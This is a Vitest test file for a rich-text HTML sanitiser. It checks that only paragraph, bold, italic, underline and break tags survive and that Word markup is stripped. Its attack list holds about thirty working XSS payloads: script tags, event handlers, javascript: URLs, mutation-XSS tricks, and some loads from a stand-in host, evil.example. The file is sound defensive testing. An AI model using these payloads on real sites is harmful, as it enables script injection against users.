import { describe, expect, it } from 'vitest';
import { plainText, readRichText, writeRichText } from '#platform/contract/inputs/richText.ts';
import { cleanRichText } from './richText.ts';

/** Ways to smuggle a script through a sanitiser: none may leave a tag or an attribute that is not on the list. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">т</p>',
  '<b onmouseover=alert(1)>т</b>',
  '<b style="background:url(javascript:alert(1))">т</b>',
  '<a href="javascript:alert(1)">т</a>',
  '<a href="jav&#x09;ascript:alert(1)">т</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<style>@import "//evil.example"</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<template><img src=x onerror=alert(1)></template>',
  '<b><script>alert(1)//</b>',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<p/onclick=alert(1)>т',
  '<b\u0000 onclick=alert(1)>т</b>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<form action="javascript:alert(1)"><button>т</button></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
];

const onlyOurs = /^(?:<\/?(?:p|b|i|u)>|<br>|&(?:amp|lt|gt);|[^<>&])*$/;

describe('what is stored of HTML', () => {
  it.each(attacks)('holds nothing that is not ours: %s [R5-49]', (attack) => {
    const stored = cleanRichText(attack);
    expect(stored).toMatch(onlyOurs);
    expect(cleanRichText(stored)).toBe(stored);
  });

  it('keeps bold, italic, underline, paragraphs and breaks [R5-49]', () => {
    expect(cleanRichText('<p>Клуб <strong>основан</strong> в <em>1994</em> <u>году</u><br>и жив</p>')).toBe(
      '<p>Клуб <b>основан</b> в <i>1994</i> <u>году</u><br>и жив</p>',
    );
  });

  it('is the letters of Word and of pages, without their dress', () => {
    const word = '<p class=MsoNormal style="margin:0"><b><span lang=RU style="font-size:14pt">Устав</span></b><o:p></o:p></p><style>p.MsoNormal{}</style>';
    expect(cleanRichText(word)).toBe('<p><b>Устав</b></p>');
    expect(cleanRichText('<div><h2>Клуб</h2><ul><li>раз</li><li>два</li></ul></div>')).toBe('<p>Клуб</p><p>раз</p><p>два</p>');
  });

  it('has one form: no empty paragraphs, nothing invisible', () => {
    expect(cleanRichText('<p></p><p> </p><p><br></p>')).toBe('');
    expect(cleanRichText('<p>т\u202eа\u200bк</p>')).toBe('<p>так</p>');
    expect(cleanRichText('просто\nстроки')).toBe('<p>просто</p><p>строки</p>');
  });

  it('signs of arithmetic stay letters', () => {
    const stored = cleanRichText('<p>2 &lt; 3 &amp; 4 > 1</p>');
    expect(plainText(stored)).toBe('2 < 3 & 4 > 1');
    expect(writeRichText(readRichText(stored))).toBe(stored);
  });

  it('a hundred thousand open tags are read at once', () => {
    expect(cleanRichText('<b>'.repeat(13_000))).toBe('');
    expect(cleanRichText('<'.repeat(40_000))).toMatch(onlyOurs);
  });
});
